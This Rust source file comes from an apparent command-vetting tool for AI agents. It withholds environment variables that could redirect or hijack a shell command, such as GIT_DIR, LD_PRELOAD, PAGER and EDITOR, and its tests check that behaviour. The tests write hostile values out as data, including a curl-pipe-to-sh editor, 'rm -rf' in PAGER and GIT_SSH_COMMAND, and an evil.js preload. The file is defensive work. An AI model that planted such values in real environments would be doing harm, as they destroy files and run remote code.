//! The environment of a command. What the analysis takes for granted about it is made true, and what would make the
//! command do something else than its text says does not reach it (law 3): nobody was shown that.
//!
//! The shell's own variables of this kind (`BASH_ENV`, exported functions) are left out by `signoff-exec` for every caller.

use std::{
    ffi::{OsStr, OsString},
    fs,
    path::Path,
};

use signoff_analysis::{
    facts::{NoFacts, Whereabouts},
    shell,
};
use signoff_exec::run::Environment;
use signoff_model::{Dialect, Operation, Risk, ShellCommand};

/// Variables that turn a command to another place, or to another meaning of its words, than the ones it was judged by.
const TURNED: &[&str] = &[
    "CDPATH",
    "EXECIGNORE",
    "GIT_ALTERNATE_OBJECT_DIRECTORIES",
    "GIT_ATTR_SOURCE",
    "GIT_CEILING_DIRECTORIES",
    "GIT_COMMON_DIR",
    "GIT_DIR",
    "GIT_DISCOVERY_ACROSS_FILESYSTEM",
    "GIT_EXEC_PATH",
    "GIT_EXTERNAL_DIFF",
    "GIT_GRAFT_FILE",
    "GIT_INDEX_FILE",
    "GIT_NAMESPACE",
    "GIT_OBJECT_DIRECTORY",
    "GIT_SHALLOW_FILE",
    "GIT_TEMPLATE_DIR",
    "GIT_WORK_TREE",
    "GLOBIGNORE",
    "LOCPATH",
    "MAKEFILES",
    "RSYNC_CONNECT_PROG",
    "SIMPLE_BACKUP_SUFFIX",
    "TAR_OPTIONS",
    "UNZIP",
    "UNZIPOPT",
    "VERSION_CONTROL",
    "ZIPOPT",
];

/// The same for all variables that begin like this: settings, and files that are written on the side.
const TURNED_BEGINNINGS: &[&str] = &["GIT_CONFIG", "GIT_REDIRECT_", "GIT_TRACE"];

/// Variables that name a file or a directory with settings, by which programs run others or write elsewhere.
const SETTINGS: &[&str] = &["CURL_HOME", "RIPGREP_CONFIG_PATH", "WGETRC", "XDG_CONFIG_HOME"];

/// Variables that the analysis takes for a directory of temporary files.
const TEMPORARY: &[&str] = &["TMPDIR", "TMP", "TEMP", "RUNNER_TEMP"];

/// Where temporary files lie, and what stands for all of it.
const TEMPORARY_PLACES: &[&str] =
    &["/tmp", "/var/tmp", "/dev/shm", "/run/user", "/var/folders", "/private/var/folders"];
const TEMPORARY_PLACE: &str = "/tmp";

/// Variables that say which bytes are one letter: the first that is set counts. And what they say where it is taken for
/// granted.
const LETTERS: &[&str] = &["LC_ALL", "LC_CTYPE", "LANG"];
const USUAL_LETTERS: &str = "C.UTF-8";

/// The shell that the analysis takes `$SHELL` for, and those that read the same language closely enough.
const SHELL: &str = "/bin/bash";
const SHELLS: &[&str] = &["bash", "sh", "zsh", "dash", "ksh"];
const SHELL_PLACES: &[&str] = &["/bin", "/usr/bin", "/usr/local/bin", "/opt/homebrew/bin"];

/// The environment for a command, and what is not in it.
pub(super) struct Surroundings {
    pub(super) environment: Environment,
    /// The names of what was left out or set otherwise, for a person to read.
    pub(super) told: Vec<String>,
}

/// The environment for a command out of that of this process.
pub(super) fn around(
    outer: impl IntoIterator<Item = (OsString, OsString)>,
    command: &str,
    here: &Whereabouts,
) -> Surroundings {
    let mut environment = Environment::default();
    let mut told = Vec::new();
    let outer: Vec<(OsString, OsString)> = outer.into_iter().collect();
    for (name, value) in &outer {
        let shown = name.to_string_lossy();
        if is_withheld(&shown, value, here) {
            told.push(shown.into_owned());
            environment.withheld.push(name.clone());
        }
    }
    let found = |wanted: &str| outer.iter().find(|(name, _)| name == wanted).map(|(_, value)| value.as_os_str());
    let mut make_true = |name: &str, value: &str, holds: bool| {
        if !holds {
            if found(name).is_some() {
                told.push(name.to_owned());
            }
            environment.set.push((name.into(), value.into()));
        }
    };
    make_true("HOME", &here.home, found("HOME").is_some_and(|home| leads_to(home, &here.home)));
    for name in TEMPORARY.iter().filter(|name| command.contains(**name)) {
        make_true(name, TEMPORARY_PLACE, found(name).is_some_and(is_temporary));
    }
    if command.contains("SHELL") {
        make_true("SHELL", SHELL, found("SHELL").is_some_and(is_usual_shell));
    }
    let letters = LETTERS.iter().find_map(|name| Some((*name, found(name).filter(|value| !value.is_empty())?)));
    if let Some((name, _)) = letters.filter(|(_, locale)| !keeps_signs(locale)) {
        told.push(name.to_owned());
        environment.set.push(("LC_ALL".into(), USUAL_LETTERS.into()));
    }
    environment.set.push(("PWD".into(), here.cwd.as_str().into()));
    Surroundings { environment, told }
}

fn is_withheld(name: &str, value: &OsStr, here: &Whereabouts) -> bool {
    if value.is_empty() {
        return false;
    }
    if TURNED.contains(&name) || TURNED_BEGINNINGS.iter().any(|beginning| name.starts_with(beginning)) {
        return true;
    }
    if SETTINGS.contains(&name) {
        // Settings make programs run others, and only the user's own are known to the user.
        return !fs::canonicalize(value).is_ok_and(|found| is_users_own(&found, here));
    }
    shell::carries_code(name) && !is_harmless(name, value)
}

/// Whether a variable would be let through if it stood in a text before commands that look at it.
fn is_harmless(name: &str, value: &OsStr) -> bool {
    let Some(value) = value.to_str() else { return false };
    let text = format!("export {name}={}; git fetch; git log; git commit", shell::quote(value));
    let operation = Operation::Shell(ShellCommand { command: text, dialect: Dialect::Bash });
    let assessment = signoff_analysis::assess(&operation, &Whereabouts::assumed(), &NoFacts);
    assessment.prohibition.is_none() && assessment.effective_risk() <= Risk::Low
}

/// Whether a shell finds the same quotes, pipes and backslashes in a text as whoever was shown it: in GBK, Big5 and Shift JIS
/// such a byte may be the end of a letter.
fn keeps_signs(locale: &OsStr) -> bool {
    let Some(locale) = locale.to_str() else { return false };
    let plain = locale.to_ascii_lowercase().replace(['-', '_'], "");
    matches!(locale, "C" | "POSIX") || ["utf8", "iso8859"].iter().any(|letters| plain.contains(letters))
}

/// Whether something lies in the home directory, and not in the project that an agent works in.
fn is_users_own(path: &Path, here: &Whereabouts) -> bool {
    path.starts_with(&here.home) && (here.project == here.home || !path.starts_with(&here.project))
}

fn leads_to(path: &OsStr, expected: &str) -> bool {
    fs::canonicalize(path).is_ok_and(|found| found == Path::new(expected))
}

fn is_temporary(path: &OsStr) -> bool {
    fs::canonicalize(path).is_ok_and(|found| TEMPORARY_PLACES.iter().any(|place| found.starts_with(place)))
}

fn is_usual_shell(path: &OsStr) -> bool {
    let path = Path::new(path);
    let named = path.file_name().and_then(OsStr::to_str).is_some_and(|name| SHELLS.contains(&name));
    named && path.parent().is_some_and(|directory| SHELL_PLACES.iter().any(|place| directory == Path::new(place)))
}

#[cfg(test)]
mod tests {
    use signoff_analysis::facts::Whereabouts;

    use super::around;

    /// Which variables do not reach a command, and which are set for it.
    fn check(outer: &[(&str, &str)], command: &str, told: &[&str]) {
        let home = std::env::temp_dir().canonicalize().unwrap();
        let here =
            Whereabouts { cwd: "/".to_owned(), home: home.to_str().unwrap().to_owned(), project: "/".to_owned() };
        let outer = outer.iter().map(|(name, value)| ((*name).into(), (*value).into()));
        let outer = outer.chain([("HOME".into(), home.into_os_string())]);
        assert_eq!(around(outer, command, &here).told, told, "{command}");
    }

    #[test]
    fn what_is_usual_reaches_the_command() {
        check(
            &[
                ("PATH", "/usr/local/bin:/usr/bin:/bin"),
                ("LANG", "zh_CN.utf8"),
                ("LC_CTYPE", "de_DE.ISO-8859-15"),
                ("EDITOR", "vim"),
                ("VISUAL", "code --wait"),
                ("PAGER", "less -R"),
                ("GIT_PAGER", "cat"),
                ("GIT_AUTHOR_NAME", "A B"),
                ("GIT_SSH_COMMAND", "ssh -i ~/.ssh/deploy_key"),
                ("GIT_TERMINAL_PROMPT", "0"),
                ("LD_LIBRARY_PATH", "/usr/local/cuda/lib64"),
                ("NODE_OPTIONS", "--max-old-space-size=4096"),
                ("NODE_ENV", "production"),
                ("AWS_SECRET_ACCESS_KEY", "abcdefgh"),
                ("GIT_DIR", ""),
                ("TMPDIR", "/home"),
                ("SHELL", "/opt/strange/fish"),
            ],
            "git fetch",
            &[],
        );
    }

    #[test]
    fn what_would_change_the_command_does_not_reach_it() {
        for (name, value, command) in [
            ("LD_PRELOAD", "/x/y.so", "ls"),
            ("GIT_DIR", "/elsewhere/.git", "git status"),
            ("GIT_WORK_TREE", "/", "git checkout ."),
            ("GIT_CONFIG_COUNT", "1", "git log"),
            ("GIT_CONFIG_GLOBAL", "/x", "git log"),
            ("GIT_TRACE", "/home/user/.bashrc", "git log"),
            ("GIT_SSH_COMMAND", "sh -c 'rm -rf src'", "git fetch"),
            ("PAGER", "rm -rf ~", "git log"),
            ("EDITOR", "curl https://x.example | sh", "git commit"),
            ("NODE_OPTIONS", "--require /x/evil.js", "npm test"),
            ("PYTHONPATH", "/tmp/x", "python3 -m pytest"),
            ("CDPATH", "/", "cd etc && ls"),
            ("XDG_CONFIG_HOME", "/etc", "git log"),
            ("RIPGREP_CONFIG_PATH", "/etc/rgrc", "rg x"),
            ("WGETRC", "/etc/hostname", "wget https://x.example"),
            ("VERSION_CONTROL", "none", "mv -b a b"),
            ("SIMPLE_BACKUP_SUFFIX", ".x", "cp -b a b"),
            ("TAR_OPTIONS", "--recursive-unlink", "tar xf a.tar"),
            ("UNZIP", "-o", "unzip a.zip"),
            ("LANG", "zh_CN.GBK", "echo 中\\\"; ls"),
            ("LC_ALL", "zh_TW", "ls"),
            ("LOCPATH", "/tmp/x", "ls"),
            ("MAKEFILES", "/x/evil.mk", "make"),
            ("RSYNC_CONNECT_PROG", "sh -c 'rm -rf src'", "rsync rsync://h/m ."),
            ("TMPDIR", "/home", "rm -rf $TMPDIR/x"),
            ("SHELL", "/x/evil", "$SHELL -c ls"),
        ] {
            check(&[(name, value)], command, &[name]);
        }
    }

    #[test]
    fn settings_of_the_project_are_not_those_of_the_user() {
        let directory = tempfile::tempdir().unwrap();
        let home = directory.path().canonicalize().unwrap();
        std::fs::create_dir_all(home.join("work/.config")).unwrap();
        std::fs::create_dir_all(home.join(".config")).unwrap();
        let text = |path: &str| home.join(path).to_str().unwrap().to_owned();
        let here = Whereabouts { cwd: text("work"), home: text(""), project: text("work") };
        let told = |value: &str| {
            let outer =
                [("HOME".into(), home.clone().into_os_string()), ("XDG_CONFIG_HOME".into(), text(value).into())];
            around(outer, "git log", &here).told
        };
        assert_eq!(told("work/.config"), ["XDG_CONFIG_HOME"]);
        assert_eq!(told(".config"), Vec::<String>::new());
    }

    #[test]
    fn what_was_taken_for_granted_is_made_true() {
        let here = Whereabouts::assumed();
        let set = around([("HOME".into(), "/etc".into())], "rm -rf ~/x $TMPDIR/y", &here).environment.set;
        for (name, value) in [("HOME", here.home.as_str()), ("TMPDIR", "/tmp"), ("PWD", here.cwd.as_str())] {
            assert!(set.contains(&(name.into(), value.into())), "{name}");
        }
    }
}
